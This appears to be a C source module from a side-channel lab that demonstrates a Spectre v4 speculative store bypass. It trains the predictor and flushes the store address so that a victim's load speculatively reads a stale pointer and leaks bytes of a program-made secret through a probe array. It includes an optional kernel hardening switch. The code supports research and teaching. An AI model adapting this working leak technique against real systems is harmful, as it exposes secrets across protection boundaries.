/*
 * Spectre v4, speculative store bypass: a load is let past an older store whose address is not known yet.
 *
 * The victim replaces a pointer to the secret by one to open text, and then follows it. Where it stores is read from
 * memory that the attacker flushed, so the load of the pointer comes first and finds what was there before. The
 * predictor lets a load pass only after some runs in which nothing went wrong: in those the store goes elsewhere.
 */
#include "lab.h"

typedef const u8 *text;

static const char ABOUT[] = "nobody through victim(): it replaces the pointer before it follows it";

static const u8 open_text[LINE] __attribute__((aligned(LINE)));
static u8 secret[MOST] __attribute__((aligned(LINE)));
static struct { text at, rest[7]; } slot __attribute__((aligned(LINE))), elsewhere __attribute__((aligned(LINE)));
static struct { text *where; u64 rest[7]; } target[2] __attribute__((aligned(LINE))) = {{&elsewhere.at, {0}}, {&slot.at, {0}}};

NOINLINE static void victim(text *volatile *where)
{
    **where = open_text;
    touch(probe + **(text volatile *)&slot.at * STRIDE);
}

static int prepare(u64 bytes)
{
#ifdef HARDEN_SSBD
    /* PR_SET_SPECULATION_CTRL, PR_SPEC_STORE_BYPASS, PR_SPEC_DISABLE: no load of this program passes a store */
    if (SYSCALL(prctl, 53, 0, 4) < 0)
        note("the kernel does not forbid it: PR_SET_SPECULATION_CTRL is refused");
#endif
    make_secret(secret, bytes);
    ignored[open_text[0]] = 1;
    return 1;
}

static void attempt(u64 index)
{
    flush_probe();
    for (int more = 16 + trainings(); more >= 0; more--) {
        slot.at = PICK(more == 0, (text)secret + index, (text)open_text);
        touch(secret + index);
        flush(&target[0]);
        flush(&target[1]);
        fence();
        victim(&PICK(more == 0, &target[1], &target[0])->where);
    }
}

static void done(void)
{
}
